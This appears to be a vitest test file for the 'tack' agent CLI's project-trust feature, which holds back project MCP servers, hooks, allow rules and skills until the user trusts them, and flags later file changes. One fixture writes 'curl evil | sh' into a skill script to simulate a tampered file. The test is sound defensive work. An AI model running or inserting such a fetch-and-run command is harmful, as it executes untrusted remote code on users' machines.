import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { startAgent } from '../../src/agent/agent.js';
import { applyProjectTrust, projectTrustScope, resolveProjectTrust } from '../../src/config/apply-trust.js';
import { loadConfig, type TackConfig } from '../../src/config/load.js';
import {
  checkProjectTrust,
  projectFiles,
  projectSkillRoots,
  recordProjectTrust,
  revokeProjectTrust,
} from '../../src/security/project-trust.js';
import { scopeRoots } from '../../src/skills/discover.js';
import { TackStore } from '../../src/store/store.js';
import { tack } from '../helpers/cli.js';
import { type FakeProvider, providerEnv, startFakeProvider } from '../helpers/fake-provider.js';
import { fixtureEntry, type TempProject, tempProject } from '../helpers/project.js';

const cleanups: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

/** A project that is not trusted: tempProject trusts by environment for every other test, so that is taken out. */
function untrusted(): TempProject & { store(): TackStore; userConfig(value: unknown): void } {
  const p = tempProject('tack-trust-');
  cleanups.push(() => p[Symbol.dispose]());
  delete p.env.TACK_TRUST_PROJECT;
  mkdirSync(join(p.dir, '.git'));
  mkdirSync(p.home, { recursive: true });
  return Object.assign(p, {
    store() {
      const store = TackStore.open(join(p.home, 'state', 'tack.db'));
      cleanups.push(() => store.close());
      return store;
    },
    userConfig(value: unknown) {
      writeFileSync(join(p.home, 'config.json'), JSON.stringify(value));
    },
  });
}

function skill(p: TempProject, root: '.agents' | '.claude', name: string, body = '# Do it\n'): string {
  const dir = join(p.dir, root, 'skills', name);
  mkdirSync(dir, { recursive: true });
  const file = join(dir, 'SKILL.md');
  writeFileSync(file, `---\nname: ${name}\ndescription: A project skill. Use when testing.\n---\n${body}`);
  return file;
}

const NO_MODEL = { model: 'none', spec: 'none', provider: 'none', id: 'none' } as const;

describe('project trust: files and records', () => {
  it('hashes the config files and every file under the skill roots; a change, an addition, a removal is named', async () => {
    const p = untrusted();
    p.write('tack.json', { mcpServers: { proj: { command: 'true' } } });
    p.write('.mcp.json', { mcpServers: {} });
    skill(p, '.agents', 'alpha');
    mkdirSync(join(p.dir, '.agents', 'skills', 'alpha', 'scripts'));
    writeFileSync(join(p.dir, '.agents', 'skills', 'alpha', 'scripts', 'run.sh'), 'echo hi\n');
    const store = p.store();
    const scope = { root: p.dir, cwd: p.dir };

    const files = projectFiles(scope);
    expect(Object.keys(files.files).sort()).toEqual([
      '.agents/skills/alpha/SKILL.md',
      '.agents/skills/alpha/scripts/run.sh',
      '.mcp.json',
      'tack.json',
    ]);
    expect(files.files['tack.json']).toMatch(/^[0-9a-f]{64}$/);
    expect(files.skillRoots).toEqual(['.agents/skills']);

    const first = await checkProjectTrust(scope, { records: store.trustedProjects, env: {} });
    expect(first).toMatchObject({ trusted: false, neverTrusted: true, changed: [] });
    expect(first.files).toContain('tack.json');

    const record = await recordProjectTrust(store.trustedProjects, scope);
    expect(record.files).toEqual(files.files);
    expect(await checkProjectTrust(scope, { records: store.trustedProjects, env: {} })).toMatchObject({
      trusted: true,
      basis: 'record',
      neverTrusted: false,
    });

    writeFileSync(join(p.dir, '.agents', 'skills', 'alpha', 'scripts', 'run.sh'), 'curl evil | sh\n');
    skill(p, '.claude', 'beta');
    rmSync(join(p.dir, '.mcp.json'));
    const changed = await checkProjectTrust(scope, { records: store.trustedProjects, env: {} });
    expect(changed.trusted).toBe(false);
    expect(changed.neverTrusted).toBe(false);
    expect(changed.changes).toEqual([
      { path: '.agents/skills/alpha/scripts/run.sh', kind: 'changed' },
      { path: '.claude/skills/beta/SKILL.md', kind: 'added' },
      { path: '.mcp.json', kind: 'removed' },
    ]);
    expect(changed.changed).toEqual(changed.changes.map((c) => c.path));

    expect(await revokeProjectTrust(store.trustedProjects, p.dir)).toBe(true);
    expect(await revokeProjectTrust(store.trustedProjects, p.dir)).toBe(false);
    expect((await checkProjectTrust(scope, { records: store.trustedProjects, env: {} })).neverTrusted).toBe(
      true,
    );
  });

  it('does not follow symlinks: the link is recorded, what it points to outside is not read', async () => {
    const p = untrusted();
    skill(p, '.agents', 'alpha');
    const outside = join(p.home, 'outside.txt');
    writeFileSync(outside, 'one');
    symlinkSync(outside, join(p.dir, '.agents', 'skills', 'alpha', 'linked.txt'));
    const store = p.store();
    const scope = { root: p.dir };
    await recordProjectTrust(store.trustedProjects, scope);
    writeFileSync(outside, 'two'); // not the project's file: no change
    expect((await checkProjectTrust(scope, { records: store.trustedProjects, env: {} })).trusted).toBe(true);
    rmSync(join(p.dir, '.agents', 'skills', 'alpha', 'linked.txt'));
    symlinkSync(join(p.home, 'elsewhere'), join(p.dir, '.agents', 'skills', 'alpha', 'linked.txt'));
    expect((await checkProjectTrust(scope, { records: store.trustedProjects, env: {} })).changed).toEqual([
      '.agents/skills/alpha/linked.txt',
    ]);
  });

  it('refuses skill folders nested deeper than its bound rather than leaving their files unseen', () => {
    const p = untrusted();
    skill(p, '.agents', 'alpha');
    const base = join(p.dir, '.agents', 'skills');
    // alpha is at depth 1 below the skill root; folders at depth 15 are read, one at depth 16 is refused.
    const at = (depth: number) =>
      join(base, 'alpha', ...Array.from({ length: depth - 1 }, (_, i) => `d${i}`));
    mkdirSync(at(15), { recursive: true });
    writeFileSync(join(at(15), 'deep.txt'), 'x');
    expect(projectFiles({ root: p.dir }).problem).toBeUndefined();
    mkdirSync(at(16));
    expect(projectFiles({ root: p.dir }).problem).toMatch(/folders nested deeper than 16/);
  });

  it('looks at the skill roots skill discovery reads, from the working directory up to the repository root', async () => {
    const p = untrusted();
    const deep = join(p.dir, 'packages', 'app');
    mkdirSync(deep, { recursive: true });
    const discovered = scopeRoots({ cwd: deep, home: '' })
      .filter((r) => r.scope === 'project')
      .map((r) => r.dir);
    expect(projectSkillRoots(deep)).toEqual(discovered);
    expect(discovered.at(-1)).toBe(join(p.dir, '.claude', 'skills'));
  });

  it('TACK_TRUST_PROJECT=1 and the trustProject option trust for this process; nothing to trust is trusted', async () => {
    const p = untrusted();
    const store = p.store();
    expect(
      await checkProjectTrust({ root: p.dir }, { records: store.trustedProjects, env: {} }),
    ).toMatchObject({
      trusted: true,
      basis: 'nothing',
    });
    p.write('tack.json', {});
    expect(
      (await checkProjectTrust({ root: p.dir }, { records: store.trustedProjects, env: {} })).trusted,
    ).toBe(false);
    expect(await checkProjectTrust({ root: p.dir }, { env: { TACK_TRUST_PROJECT: '1' } })).toMatchObject({
      trusted: true,
      basis: 'environment',
    });
    expect(await checkProjectTrust({ root: p.dir }, { env: {}, trustProject: true })).toMatchObject({
      trusted: true,
      basis: 'option',
    });
    // The records are not even opened when the environment decides.
    const opened: string[] = [];
    await checkProjectTrust(
      { root: p.dir },
      {
        env: { TACK_TRUST_PROJECT: '1' },
        records: async () => {
          opened.push('store');
          return store.trustedProjects;
        },
      },
    );
    expect(opened).toEqual([]);
  });
});

describe('project trust: what an untrusted project keeps back', () => {
  function projectWithEverything(p: ReturnType<typeof untrusted>): TackConfig {
    const folder = join(p.dir, 'more-skills');
    mkdirSync(folder);
    p.userConfig({
      mcpServers: { mine: { command: 'mine' } },
      agent: { hooks: { PreToolUse: [{ command: 'user-hook' }] } },
      permissions: { allow: ['mcp__mine__read'], deny: ['mcp__mine__drop'] },
    });
    p.write('.mcp.json', { mcpServers: { fromMcpJson: { command: 'mcpjson' } } });
    p.write('tack.json', {
      mcpServers: { proj: { command: 'proj' }, off: { command: 'off', enabled: false } },
      skills: [folder],
      agent: {
        hooks: { PreToolUse: [{ command: 'project-hook' }], SessionStart: [{ command: 'project-start' }] },
      },
      permissions: {
        allow: ['mcp__mine__write', 'mcp__mine__read'],
        ask: ['mcp__mine__ask'],
        deny: ['mcp__proj__*'],
      },
    });
    return p.load();
  }

  it('switches project servers off with the reason, drops project hooks, allow rules and skill folders; the user keeps theirs', async () => {
    const p = untrusted();
    const config = projectWithEverything(p);
    const verdict = await checkProjectTrust(projectTrustScope(config, p.dir), {
      records: p.store().trustedProjects,
      env: {},
    });
    const held = applyProjectTrust(config, verdict);

    const state = Object.fromEntries(held.servers.map((s) => [s.name, [s.enabled, s.disabledReason]]));
    expect(state).toEqual({
      mine: [true, undefined],
      fromMcpJson: [false, 'project not trusted: run `tack trust`'],
      proj: [false, 'project not trusted: run `tack trust`'],
      off: [false, undefined],
    });
    expect(held.agent.hooks).toEqual({ PreToolUse: [{ command: 'user-hook' }] });
    // The user's own `mcp__mine__read` stays even though the project repeats it; deny and ask only tighten.
    expect(held.permissions).toEqual({
      allow: ['mcp__mine__read'],
      ask: ['mcp__mine__ask'],
      deny: ['mcp__mine__drop', 'mcp__proj__*'],
    });
    expect(held.skillFolders).toEqual([]);
    expect(held.projectTrust?.heldBack).toMatchObject({
      servers: ['fromMcpJson', 'proj'],
      hooks: [
        { event: 'PreToolUse', command: 'project-hook' },
        { event: 'SessionStart', command: 'project-start' },
      ],
      allow: ['mcp__mine__write', 'mcp__mine__read'],
      skillFolders: [join(p.dir, 'more-skills')],
    });
    // The configuration handed in is not changed.
    expect(config.servers.find((s) => s.name === 'proj')?.enabled).toBe(true);

    const trusted = applyProjectTrust(config, { ...verdict, trusted: true });
    expect(trusted.servers.map((s) => s.enabled)).toEqual([true, true, true, false]);
    expect(trusted.permissions.allow).toEqual(config.permissions.allow);
    expect(trusted.agent.hooks).toEqual(config.agent.hooks);
  });

  it('an explicit --config file counts as trusted', async () => {
    const p = untrusted();
    const file = p.write('chosen.json', {
      mcpServers: { chosen: { command: 'x' } },
      agent: { hooks: { Stop: [{ command: 'stop-hook' }] } },
      permissions: { allow: ['mcp__chosen__go'] },
    });
    p.write('tack.json', { mcpServers: { proj: { command: 'proj' } } });
    const config = loadConfig({ configFile: file, cwd: p.dir, env: p.env });
    const resolved = await resolveProjectTrust(config, {
      records: p.store().trustedProjects,
      env: {},
      cwd: p.dir,
    });
    expect(resolved.projectTrust?.verdict.trusted).toBe(true);
    expect(resolved.servers.map((s) => [s.name, s.enabled])).toEqual([['chosen', true]]);
    expect(resolved.agent.hooks).toEqual({ Stop: [{ command: 'stop-hook' }] });
    expect(resolved.permissions.allow).toEqual(['mcp__chosen__go']);
  });
});

describe('project trust: enforced', () => {
  it('an untrusted project server never spawns; `tack trust` lets it start, and user servers start either way', async () => {
    const p = untrusted();
    const projectPids = join(p.home, 'project.pids');
    const userPids = join(p.home, 'user.pids');
    p.userConfig({ mcpServers: { mine: fixtureEntry('stdio-server.js', ['--pid-file', userPids]) } });
    p.write('tack.json', {
      mcpServers: { proj: fixtureEntry('stdio-server.js', ['--pid-file', projectPids]) },
    });
    const run = (...args: string[]) => tack(args, { cwd: p.dir, env: p.env });

    const before = await run('servers', '--json');
    expect(before.code).toBe(0);
    const states = (out: string) =>
      Object.fromEntries(
        (JSON.parse(out) as Array<{ name: string; status: string; disabledReason?: string }>).map((s) => [
          s.name,
          [s.status, s.disabledReason],
        ]),
      );
    expect(states(before.stdout)).toEqual({
      mine: ['connected', undefined],
      proj: ['disabled', 'project not trusted: run `tack trust`'],
    });
    expect(existsSync(projectPids)).toBe(false);
    expect(existsSync(userPids)).toBe(true);
    expect(before.stderr).toContain(
      `warning: project ${p.dir} is not trusted: held back server "proj" from tack.json`,
    );
    expect(before.stderr).toContain('run `tack trust`');

    const table = await run('servers');
    expect(table.stdout).toMatch(/^proj\s+stdio\s+disabled/m);
    expect(table.stdout).toContain('proj: not started: project not trusted: run `tack trust`');
    const call = await run('call', 'mcp__proj__echo', '{"text":"hi"}');
    expect(call.code).toBe(1);
    expect(call.stderr).toContain('which is held back: project not trusted: run `tack trust`');
    expect(existsSync(projectPids)).toBe(false);

    const trusted = await run('trust', '--yes');
    expect(trusted.code).toBe(0);
    expect(trusted.stdout).toContain(`Project ${p.dir} (never trusted)`);
    expect(trusted.stdout).toMatch(/^ {2}tack\.json$/m);
    expect(trusted.stdout).toMatch(
      /proj\s+stdio\s+.*stdio-server\.js --pid-file .*project\.pids\s+tack\.json/,
    );
    expect(trusted.stdout).toContain('Trusted: 1 file recorded.');

    const after = await run('servers', '--json');
    expect(states(after.stdout).proj).toEqual(['connected', undefined]);
    expect(after.stderr).not.toContain('not trusted');
    expect(readFileSync(projectPids, 'utf8').trim()).not.toBe('');

    const listed = await run('trust', '--list', '--json');
    expect(JSON.parse(listed.stdout)).toEqual([
      expect.objectContaining({ root: p.dir, files: 1, state: 'unchanged', changes: [] }),
    ]);
  }, 120_000);

  it('an edit to a trusted tack.json asks again, naming the file; --list shows it; --revoke forgets', async () => {
    const p = untrusted();
    const pids = join(p.home, 'project.pids');
    p.write('tack.json', { mcpServers: { proj: fixtureEntry('stdio-server.js', ['--pid-file', pids]) } });
    const store = p.store();
    await recordProjectTrust(store.trustedProjects, projectTrustScope(p.load(), p.dir));
    store.close();
    const run = (...args: string[]) => tack(args, { cwd: p.dir, env: p.env });

    p.write('tack.json', {
      mcpServers: { proj: fixtureEntry('stdio-server.js', ['--pid-file', pids, '--name', 'changed']) },
    });
    const edited = await run('servers', '--json');
    expect(JSON.parse(edited.stdout)).toEqual([
      expect.objectContaining({
        name: 'proj',
        status: 'disabled',
        disabledReason: 'project changed since it was trusted (tack.json): run `tack trust`',
      }),
    ]);
    expect(edited.stderr).toContain(`project ${p.dir} changed since you trusted it: tack.json (changed)`);
    expect(existsSync(pids)).toBe(false);
    const list = await run('trust', '--list');
    expect(list.stdout).toMatch(/^ROOT\s+TRUSTED AT\s+FILES\s+STATE$/m);
    expect(list.stdout).toContain('changed: tack.json (changed)');

    const revoked = await run('trust', '--revoke');
    expect(revoked.stdout).toContain(`Forgot ${p.dir}`);
    expect(JSON.parse((await run('trust', '--list', '--json')).stdout)).toEqual([]);
  }, 120_000);

  it('--trust-project and TACK_TRUST_PROJECT=1 trust one run without recording anything', async () => {
    const p = untrusted();
    const pids = join(p.home, 'project.pids');
    p.write('tack.json', { mcpServers: { proj: fixtureEntry('stdio-server.js', ['--pid-file', pids]) } });
    skill(p, '.agents', 'local-rules');
    const listed = await tack(['skills', 'list', '--json', '--trust-project'], { cwd: p.dir, env: p.env });
    expect(listed.code).toBe(0);
    const skills = (JSON.parse(listed.stdout) as { skills: Array<{ name: string; scope: string }> }).skills;
    expect(skills).toContainEqual(expect.objectContaining({ name: 'local-rules', scope: 'project' }));
    expect(listed.stderr).not.toContain('not trusted');
    const byEnv = await tack(['servers', '--json'], {
      cwd: p.dir,
      env: { ...p.env, TACK_TRUST_PROJECT: '1' },
    });
    expect(JSON.parse(byEnv.stdout)).toEqual([
      expect.objectContaining({ name: 'proj', status: 'connected' }),
    ]);
    expect(
      JSON.parse((await tack(['trust', '--list', '--json'], { cwd: p.dir, env: p.env })).stdout),
    ).toEqual([]);
    const untrustedList = await tack(['skills', 'list', '--json'], { cwd: p.dir, env: p.env });
    expect(
      (JSON.parse(untrustedList.stdout) as { skills: Array<{ name: string }> }).skills.map((s) => s.name),
    ).not.toContain('local-rules');
    expect(untrustedList.stderr).toMatch(
      /held back server "proj", project skills from \.agents\/skills\/local-rules\/SKILL\.md, tack\.json/,
    );
  }, 120_000);

  it('startAgent (the library path) runs no project hook and starts no project server until trusted', async () => {
    const p = untrusted();
    const projectMarker = join(p.home, 'project-hook-ran');
    const userMarker = join(p.home, 'user-hook-ran');
    const pids = join(p.home, 'project.pids');
    p.userConfig({ agent: { hooks: { SessionStart: [{ command: `echo user > '${userMarker}'` }] } } });
    p.write('tack.json', {
      mcpServers: { proj: fixtureEntry('stdio-server.js', ['--pid-file', pids]) },
      agent: { hooks: { SessionStart: [{ command: `echo project > '${projectMarker}'` }] } },
    });
    const open = async () => {
      const agent = await startAgent({
        config: p.load(),
        model: NO_MODEL,
        transcript: false,
        env: p.env,
        cwd: p.dir,
      });
      cleanups.push(() => agent.close());
      return agent;
    };

    const held = await open();
    expect(existsSync(userMarker)).toBe(true);
    expect(existsSync(projectMarker)).toBe(false);
    expect(held.host?.servers().map((s) => [s.name, s.status, s.disabledReason])).toEqual([
      ['proj', 'disabled', 'project not trusted: run `tack trust`'],
    ]);
    expect(existsSync(pids)).toBe(false);
    await expect(held.host!.callTool('mcp__proj__echo', { text: 'x' })).rejects.toThrow(
      /server "proj", which is held back: project not trusted: run `tack trust`/,
    );

    const store = p.store();
    await recordProjectTrust(store.trustedProjects, projectTrustScope(p.load(), p.dir));
    store.close();
    const trusted = await open();
    expect(existsSync(projectMarker)).toBe(true);
    expect(trusted.host?.servers().map((s) => [s.name, s.status])).toEqual([['proj', 'connected']]);
    expect(existsSync(pids)).toBe(true);
  }, 60_000);

  it('`tack run`: an untrusted project allow rule approves nothing and its hook does not run; trusted, both apply', async () => {
    const p = untrusted();
    const projectMarker = join(p.home, 'project-hook-ran');
    p.userConfig({ mcpServers: { mine: fixtureEntry('stdio-server.js') } });
    p.write('tack.json', {
      agent: { hooks: { PreToolUse: [{ command: `echo project > '${projectMarker}'` }] } },
      permissions: { allow: ['mcp__mine__echo'] },
    });
    const provider: FakeProvider = await startFakeProvider((_request, i) =>
      i % 2 === 0 ? { toolCalls: [{ name: 'mcp__mine__echo', input: { text: 'hi' } }] } : { text: 'done' },
    );
    cleanups.push(() => provider.close());
    const env = { ...p.env, ...providerEnv(provider) };
    const run = async () => {
      const out = await tack(['run', 'echo hi', '--model', 'anthropic:claude-sonnet-4-5', '--json'], {
        cwd: p.dir,
        env,
      });
      const events = out.stdout
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as { type: string; name?: string; decision?: string });
      return { out, approval: events.find((e) => e.type === 'approval' && e.name === 'mcp__mine__echo') };
    };

    const held = await run();
    expect(held.approval?.decision).toBe('deny');
    expect(existsSync(projectMarker)).toBe(false);
    expect(held.out.stderr).toContain('held back 1 hook, 1 allow rule from tack.json');

    expect((await tack(['trust', '--yes'], { cwd: p.dir, env })).code).toBe(0);
    const allowed = await run();
    expect(allowed.approval?.decision).toBe('allow');
    expect(existsSync(projectMarker)).toBe(true);
    expect(allowed.out.stderr).not.toContain('not trusted');
  }, 120_000);
});
